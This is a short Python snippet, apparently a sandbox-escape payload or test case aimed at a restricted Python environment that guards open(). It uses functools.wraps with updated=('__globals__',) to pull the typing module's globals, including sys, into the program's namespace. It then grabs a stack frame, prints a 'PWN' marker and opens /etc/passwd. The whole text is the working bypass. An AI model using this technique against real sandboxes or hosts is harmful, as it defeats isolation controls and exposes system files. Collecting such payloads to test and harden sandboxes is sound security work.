# functools.wraps(updated=('__globals__',)) merges typing's globals into the program's: its sys, then a frame
# guard: open
import functools, typing
def w(): pass
functools.wraps(typing.cast, assigned=(), updated=('__globals__',))(w)
if hasattr(sys._getframe(0), 'f_back'):
    print('PWN a frame')
open("/etc/passwd")
